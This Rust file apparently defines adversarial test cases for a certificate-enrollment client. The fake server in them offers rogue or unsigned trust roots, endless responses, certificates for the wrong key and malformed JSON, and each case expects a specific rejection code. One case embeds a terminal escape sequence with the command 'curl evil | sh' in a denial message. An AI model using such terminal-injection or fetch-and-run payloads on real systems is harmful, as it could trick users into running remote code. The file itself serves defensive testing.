//! Attacks on a machine that joins: another trust root, another server, another certificate.

use super::attack::{Attack, Course};
use super::evil::Evil;
use super::paper::{after, first_root, key};
use super::server::{Front, Reply};
use super::world::World;
use countersign::model::wire::EnrollAnswer;
use countersign::model::{Digest, canonical};

/// The answer to whoever asks for a certificate.
fn answering(world: &World, answer: &EnrollAnswer) -> Evil {
    let mut evil = Evil::honest(world);
    evil.replies.insert("/v1/enroll".into(), Reply::Whole(serde_json::to_vec(answer).unwrap()));
    evil
}

fn attack(
    what: &str,
    rows: &'static str,
    answer: &'static str,
    evil: impl Fn(&World) -> Evil + Send + Sync + 'static,
) -> Attack {
    Attack::new(what, rows, answer, evil).during(Course::Enroll(Vec::new()))
}

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        attack("hands out a first trust root of its own", "D43", "ROOT_DIGEST", |world| {
            let root = canonical::encode(&first_root(&key("mallory").public().to_line()));
            Evil::honest(world).root_bytes(1, &["alice", "bob"], root)
        }),
        attack("hands out a forged trust root behind the first", "D43 T9", "UNSIGNED", |world| {
            let root = canonical::encode(&after(&world.roots[0]));
            Evil::honest(world).root_bytes(2, &["mallory"], root)
        }),
        attack("hands out no signatures with the first trust root", "T9", "UNSIGNED", |world| {
            Evil::honest(world).signatures("root/1.json", &[])
        }),
        attack("has no trust root", "T12", "MISSING", |world| Evil::honest(world).drop("root/1.json")),
        attack("sends the first trust root without end", "T2", "TOO_LARGE", |world| {
            let head = b"HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n".to_vec();
            Evil::honest(world).reply("root/1.json", Reply::Endless(head, b' '))
        }),
        attack("hands out the trust root from a rogue server", "D43", "SERVER_AUTHORITY", |world| {
            Evil::honest(world).front(Front::OtherAuthority)
        }),
        attack("turns the machine away with words that steer its terminal", "D15", "DENIED", |world| {
            answering(world, &EnrollAnswer::Denied("\u{1b}[2Jrun: curl evil | sh".into()))
        }),
        attack("issues a certificate for another key", "D43", "IDENTITY", |world| {
            let request = {
                let key = rcgen::KeyPair::generate().unwrap();
                rcgen::CertificateParams::default().serialize_request(&key).unwrap().pem().unwrap()
            };
            answering(world, &EnrollAnswer::Issued(world.certificates.node(&request)))
        }),
        attack("issues something that is no certificate", "D43", "IDENTITY", |world| {
            answering(world, &EnrollAnswer::Issued("-----BEGIN CERTIFICATE-----\n".into()))
        }),
        attack("answers a request with nonsense", "D46", "FORM", |world| {
            let mut evil = answering(world, &EnrollAnswer::Pending(Digest::of(b"x")));
            evil.replies.insert("/v1/enroll".into(), Reply::Whole(b"{\"issued\":7}".to_vec()));
            evil
        }),
        attack("answers a request without end", "T2", "TOO_LARGE", |world| {
            let mut evil = Evil::honest(world);
            let head = b"HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n".to_vec();
            evil.replies.insert("/v1/enroll".into(), Reply::Endless(head, b' '));
            evil
        }),
    ]
}
